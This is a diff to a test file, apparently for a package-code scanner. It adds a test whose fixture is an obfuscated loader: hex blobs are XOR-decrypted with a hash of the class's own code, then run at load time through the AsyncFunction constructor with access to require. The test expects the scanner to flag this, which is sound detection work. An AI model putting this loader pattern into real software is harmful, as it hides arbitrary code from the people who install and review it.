@@ -694,3 +694,26 @@ describe('an install script whose helpers are defined before its main call', () 
     expect(r.risk_level).toBe('critical');
   });
 });
+
+describe('the AsyncFunction constructor reached through a prototype', () => {
+  it('hex blobs XORed with a hash of the code, compiled by Object.getPrototypeOf(async function () {}).constructor', () => {
+    expect(
+      rules({
+        'index.js': `const crypto = require('crypto');
+const ROWS = ['cd199a26606136e0385d8faa9b1f530c871c38c897a979da791b5ee7c72d8347', '874d9d333c6025e26a4c8fa89d584407d91518e9d8e33cf57b0652e1d12dde05'];
+class Policy {
+  static { Policy.ready = Policy.expand(crypto.createHash('sha256').update(Policy.prototype.delay.toString()).digest()); }
+  static expand(seed) {
+    const chunks = [];
+    let i = 0;
+    for (const row of ROWS) { const b = Buffer.from(row, 'hex'); const o = Buffer.alloc(b.length); for (let j = 0; j < b.length; j++, i++) o[j] = b[j] ^ seed[i % seed.length]; chunks.push(o); }
+    const AsyncCurve = Object.getPrototypeOf(async function () {}).constructor;
+    return new AsyncCurve('require', Buffer.concat(chunks).toString('utf8'))(require);
+  }
+  delay(n) { return 2 ** n * 100; }
+}
+module.exports = Policy;`,
+      }),
+    ).toContain('js.eval-decoded');
+  });
+});
